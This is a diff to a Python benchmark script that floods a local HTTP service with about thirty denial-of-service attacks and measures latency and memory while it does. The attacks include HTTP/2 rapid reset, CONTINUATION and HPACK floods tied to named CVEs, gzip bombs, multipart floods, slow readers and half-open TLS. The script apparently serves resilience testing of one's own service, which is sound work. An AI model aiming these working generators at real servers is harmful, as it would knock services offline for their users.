@@ -4,27 +4,34 @@
 The attacker is a process of its own, with the lowest priority, and the one that measures has the highest that it may
 take, so that the waits are the service's and not those of this program. The service runs already; --pid is its process.
 
-    bench/attack.py 8080 --pid $(pgrep -f quarkus-run.jar) --photo photo.jpg http1 http2
+    bench/attack.py 8080 --pid $(pgrep -f quarkus-run.jar) --photo photo.jpg http1 http2 resets pings
+    bench/attack.py 8080 --attacked 8443 … half-tls tls
 """
 
 import argparse
 import contextlib
+import gzip
 import http.client
+import itertools
 import multiprocessing
 import os
 import selectors
 import socket
+import ssl
 import statistics
 import struct
 import time
 from collections import Counter
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from pathlib import Path
 
 POST = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: image/jpeg\r\nContent-Length: 5000\r\n\r\n\xff\xd8abc"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ATTACKER, OTHER = "127.0.0.2", "127.0.0.3"  # of Linux's loopback, each with ports of its own
-DATA, HEADERS, SETTINGS = 0, 1, 4
-END_HEADERS = 4
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+BATCH = 64  # frames or requests that are sent at once
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -41,36 +48,206 @@ def head(**fields: str) -> bytes:
                     for name, value in fields.items())
 
 
+OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
+GET = head(p_method="GET", p_path="/q/health/live", p_scheme="http", p_authority="a")
+POSTED = head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a", content_type="image/jpeg",
+              content_length="5000")
+
+
 def http2_posts(streams: int) -> bytes:
     """A connection that begins as many posts and sends five bytes of each."""
-    fields = head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a",
-                  content_type="image/jpeg", content_length="5000")
-    posts = [frame(HEADERS, END_HEADERS, 2 * i + 1, fields) + frame(DATA, 0, 2 * i + 1, b"\xff\xd8abc")
+    posts = [frame(HEADERS, END_HEADERS, 2 * i + 1, POSTED) + frame(DATA, 0, 2 * i + 1, b"\xff\xd8abc")
              for i in range(streams)]
-    return PREFACE + frame(SETTINGS, 0, 0, b"") + b"".join(posts)
+    return OPENING + b"".join(posts)
 
 
-ATTACKS = {"none": (0, b""), "http1": (3000, POST), "http2": (40, http2_posts(100))}
+def streams(*frames: Callable[[int], bytes]) -> Iterator[bytes]:
+    """HTTP/2 with one stream after the other, of the given frames each."""
+    yield OPENING
+    for first in itertools.count(1, 2 * BATCH):
+        yield b"".join(make(first + 2 * i) for i in range(BATCH) for make in frames)
 
 
-def attack(port: int, kind: str, ends: float) -> None:
+def rapid_resets() -> Iterator[bytes]:
+    """Streams that are begun and cancelled at once: CVE-2023-44487."""
+    return streams(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET),
+                   lambda stream: frame(RESET, 0, stream, struct.pack(">I", 8)))
+
+
+def made_to_reset() -> Iterator[bytes]:
+    """Streams that the service has to reset, for a window that grows by nothing: CVE-2025-8671."""
+    return streams(lambda stream: frame(HEADERS, END_HEADERS, stream, POSTED),
+                   lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
+
+
+def unended_head() -> Iterator[bytes]:
+    """One head that goes on and on: CVE-2024-24549 and the like."""
+    yield OPENING + frame(HEADERS, 0, 1, GET)
+    yield from itertools.repeat(frame(CONTINUATION, 0, 1, head(x_a="a" * 100) * 100))
+
+
+def empty_continuations() -> Iterator[bytes]:
+    yield OPENING + frame(HEADERS, 0, 1, GET)
+    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"") * BATCH)
+
+
+def hpack_bombs() -> Iterator[bytes]:
+    """A header of 4,000 bytes in the table, which each stream then names in a byte, 4,000 times: CVE-2016-6581."""
+    large = b"\x40" + literal("x-a") + b"\x7f" + bytes([0xa1, 0x1e]) + b"a" * 4000
+    yield OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + large)
+    for stream in itertools.count(3, 2):
+        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + b"\xbe" * 4000)
+
+
+def control_frames(kind: int, payload: bytes) -> Iterator[bytes]:
+    yield OPENING
+    yield from itertools.repeat(frame(kind, 0, 0, payload) * BATCH)
+
+
+def on_one_stream(kind: int, payload: bytes) -> Iterator[bytes]:
+    yield OPENING + frame(HEADERS, END_HEADERS, 1, POSTED)
+    yield from itertools.repeat(frame(kind, 0, 1, payload) * BATCH)
+
+
+def requests(make: Callable[[int], bytes]) -> Iterator[bytes]:
+    """HTTP/1 requests, one after the other, without waiting for responses."""
+    for first in itertools.count(os.getpid() * 1_000_000, BATCH):
+        yield b"".join(make(first + i) for i in range(BATCH))
+
+
+def get(path: str, *headers: str) -> bytes:
+    return "\r\n".join([f"GET {path} HTTP/1.1", "Host: a", *headers, "", ""]).encode()
+
+
+def post(path: str, kind: str, body: bytes, *headers: str) -> bytes:
+    first = [f"POST {path} HTTP/1.1", "Host: a", f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
+    return "\r\n".join([*first, *headers, "", ""]).encode() + body
+
+
+def gzip_bomb() -> bytes:
+    return gzip.compress(bytes(64 << 20))
+
+
+def many_parts() -> bytes:
+    """A form of 100,000 parts."""
+    return b"".join(b'--b\r\nContent-Disposition: form-data; name="p%d"\r\n\r\nx\r\n' % i for i in range(100_000)) + b"--b--\r\n"
+
+
+def giant_part_head() -> bytes:
+    return b'--b\r\nContent-Disposition: form-data; name="file"\r\nX-A: ' + b"a" * 4_000_000 + b"\r\n\r\nx\r\n--b--\r\n"
+
+
+def endless(content: bytes) -> Iterator[bytes]:
+    return itertools.repeat(content)
+
+
+@dataclass(frozen=True)
+class Attack:
+    """What an attacker does: it opens connections, sends what each has to, and reads what comes, or does not."""
+
+    connections: int
+    content: Callable[[], Iterator[bytes]]
+    reads: bool = True
+    tls: bool = False
+
+
+FORM = "multipart/form-data; boundary=b"
+UPGRADE = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
+RANGES = "Range: bytes=" + ",".join(["0-"] * 1000)
+HELLO = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])  # the beginning of a ClientHello of 512 bytes
+
+ATTACKS = {
+    "none": Attack(0, lambda: iter(())),
+    "http1": Attack(3000, lambda: iter((POST,))),
+    "http2": Attack(40, lambda: iter((http2_posts(100),))),
+    "expect": Attack(3000, lambda: iter((POST[:-5].replace(b"Host: a", b"Host: a\r\nExpect: 100-continue"),))),
+    "half-tls": Attack(3000, lambda: iter((HELLO,))),
+    "tls": Attack(50, lambda: iter(()), tls=True),
+    "upgrades": Attack(20, lambda: requests(lambda i: get("/predict", *UPGRADE))),
+    "resets": Attack(8, rapid_resets),
+    "made-to-reset": Attack(8, made_to_reset),
+    "continuations": Attack(8, unended_head),
+    "empty-continuations": Attack(8, empty_continuations),
+    "hpack": Attack(8, hpack_bombs),
+    "pings": Attack(8, lambda: control_frames(PING, bytes(8))),
+    "unread-pings": Attack(8, lambda: control_frames(PING, bytes(8)), reads=False),
+    "settings": Attack(8, lambda: control_frames(SETTINGS, b"")),
+    "unread-settings": Attack(8, lambda: control_frames(SETTINGS, struct.pack(">HI", 4, 65535) * 20), reads=False),
+    "empty-data": Attack(8, lambda: on_one_stream(DATA, b"")),
+    "priorities": Attack(8, lambda: on_one_stream(PRIORITY, struct.pack(">IB", 0, 1))),
+    "windows": Attack(8, lambda: control_frames(WINDOW_UPDATE, struct.pack(">I", 1))),
+    "slow-readers": Attack(1000, lambda: iter((get("/q/openapi") * 20,)), reads=False),
+    "ranges": Attack(8, lambda: requests(lambda i: get("/q/openapi", RANGES))),
+    "long-paths": Attack(8, lambda: requests(lambda i: get("/" + "a/" * 1900))),
+    "long-queries": Attack(8, lambda: requests(lambda i: get("/models?" + "a=b&" * 950))),
+    "models": Attack(20, lambda: requests(lambda i: get(f"/v2/models/{i:x}"))),
+    "predict-models": Attack(20, lambda: requests(lambda i: post(f"/predict?model=m{i:x}", "image/jpeg", b"\xff\xd8"))),
+    "wrong-keys": Attack(20, lambda: requests(lambda i: get("/models", f"X-API-Key: {i:x}"))),
+    "gzip": Attack(20, lambda body=gzip_bomb(): endless(post("/predict", "image/jpeg", body, "Content-Encoding: gzip"))),
+    "nested": Attack(20, lambda body=gzip.compress(gzip.compress(gzip_bomb())): endless(
+        post("/predict", "application/json", body, "Content-Encoding: gzip, gzip, gzip"))),
+    "parts": Attack(20, lambda body=many_parts(): endless(post("/predict", FORM, body))),
+    "part-heads": Attack(20, lambda body=giant_part_head(): endless(post("/predict", FORM, body))),
+}
+
+
+class Attacker:
+    """One connection of an attack."""
+
+    def __init__(self, opened: socket.socket, content: Iterator[bytes]):
+        self.opened = opened
+        self.content = content
+        self.unsent = b""
+
+    def send(self) -> bool:
+        """Sends what the socket takes; returns whether there is more."""
+        while True:
+            if not self.unsent:
+                self.unsent = next(self.content, b"")
+                if not self.unsent:
+                    return False
+            sent = self.opened.send(self.unsent)
+            self.unsent = self.unsent[sent:]
+            if self.unsent:
+                return True
+
+
+def connect(port: int, kind: Attack) -> socket.socket:
+    opened = socket.create_connection(("127.0.0.1", port), 1, (ATTACKER, 0))
+    if kind.tls:
+        context = ssl.create_default_context()
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.wrap_socket(opened).close()
+        raise ConnectionError("closed after its handshake")
+    opened.setblocking(False)
+    return opened
+
+
+def attack(port: int, kind: Attack, ends: float) -> None:
     """Opens the attack's connections, sends what belongs to each, and reads what comes; opens closed ones again."""
     os.nice(19)
-    connections, content = ATTACKS[kind]
     waiting = selectors.DefaultSelector()
-    missing = connections
+    events_of_all = selectors.EVENT_READ if kind.reads else 0
+    unread = []  # keeps them open
+    missing = kind.connections
     while time.monotonic() < ends:
         for _ in range(min(missing, 50)):
             with contextlib.suppress(OSError):
-                opened = socket.create_connection(("127.0.0.1", port), 1, (ATTACKER, 0))
-                opened.sendall(content)
-                opened.setblocking(False)
-                waiting.register(opened, selectors.EVENT_READ)
+                attacker = Attacker(connect(port, kind), kind.content())
+                waiting.register(attacker.opened, selectors.EVENT_WRITE | events_of_all, attacker)
                 missing -= 1
-        for key, _ in waiting.select(0 if missing else 0.05):
+        for key, events in waiting.select(0 if missing else 0.05):
+            attacker = key.data
             try:
-                if key.fileobj.recv(1 << 16):
+                if events & selectors.EVENT_WRITE and not attacker.send():
+                    if not kind.reads:
+                        unread.append(waiting.unregister(key.fileobj).fileobj)
+                        continue
+                    waiting.modify(key.fileobj, selectors.EVENT_READ, attacker)
+                if not events & selectors.EVENT_READ or key.fileobj.recv(1 << 16):
                     continue
+            except BlockingIOError:
+                continue
             except OSError:
                 pass
             waiting.unregister(key.fileobj)
@@ -116,7 +293,7 @@ def summary(waits: list[float], outcomes: Counter) -> str:
             f" max {ordered[-1]:.0f}" + (f" {others}" if others else ""))
 
 
-def run(port: int, pid: int, source: tuple, photo: bytes, kind: str, seconds: float) -> None:
+def run(port: int, attacked: int, pid: int, source: tuple, photo: bytes, kind: str, seconds: float) -> None:
     """One attack, with both measurements beside it; prints a line of them."""
     ends = time.monotonic() + seconds
     asked = [("POST", "/predict", photo), ("GET", "/q/health/live", None)]
@@ -127,7 +304,7 @@ def run(port: int, pid: int, source: tuple, photo: bytes, kind: str, seconds: fl
     for process in processes:
         process.start()
     time.sleep(0.3)
-    attacker = multiprocessing.Process(target=attack, args=(port, kind, ends))
+    attacker = multiprocessing.Process(target=attack, args=(attacked, ATTACKS[kind], ends))
     attacker.start()
     while time.monotonic() < ends:
         most = max(most, rss(pid))
@@ -135,7 +312,7 @@ def run(port: int, pid: int, source: tuple, photo: bytes, kind: str, seconds: fl
     normal, live = (summary(*queue.get()) for queue in queues)
     for process in [*processes, attacker]:
         process.join()
-    print(f"{kind:5} | normal {normal} ms | live {live} ms | RSS {before:.0f} to {most:.0f} MB", flush=True)
+    print(f"{kind:19} | normal {normal} ms | live {live} ms | RSS {before:.0f} to {most:.0f} MB", flush=True)
 
 
 def main() -> None:
@@ -144,12 +321,13 @@ def main() -> None:
     parser.add_argument("attacks", nargs="+", choices=ATTACKS)
     parser.add_argument("--pid", type=int, required=True, help="the service's process")
     parser.add_argument("--photo", type=Path, required=True, help="the body of normal requests")
+    parser.add_argument("--attacked", type=int, help="the port that is attacked, if it is another")
     parser.add_argument("--same-address", action="store_true", help="measure from the attacker's address")
     parser.add_argument("--seconds", type=float, default=5, help="of each attack")
     options = parser.parse_args()
     for kind in options.attacks:
         source = (ATTACKER if options.same_address else OTHER, 0)
-        run(options.port, options.pid, source, options.photo.read_bytes(), kind, options.seconds)
+        run(options.port, options.attacked or options.port, options.pid, source, options.photo.read_bytes(), kind, options.seconds)
         time.sleep(1)
 
 
